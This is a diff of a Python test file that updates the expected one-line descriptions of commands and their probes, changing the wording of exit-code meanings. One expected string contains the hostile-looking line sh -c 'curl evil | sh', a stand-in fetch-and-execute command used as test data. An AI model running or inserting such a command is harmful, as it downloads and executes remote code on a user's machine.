@@ -164,10 +164,10 @@ def test_all_that_could_run_is_described(project: Path):
     said = domain.describe(domain.check(Inverse("run", args)))
     assert said == (
         "drop x (with PGPASSWORD, expects 0, 2, idempotent)"
-        " · probe: sh -c 'curl evil | sh' (shell) (proven by 3, undone by 1)"
+        " · probe: sh -c 'curl evil | sh' (shell) (taken back if it exits 3; not if 1)"
     )
     plain = domain.describe(domain.check(Inverse("run", {"argv": ["true"], "probe": {"argv": ["test", "-e", "x"]}})))
-    assert plain == "true · probe: test -e x (proven by 0)"
+    assert plain == "true · probe: test -e x (taken back if it exits 0)"
 
 
 def test_its_description_is_one_line_that_means_the_same(project: Path):
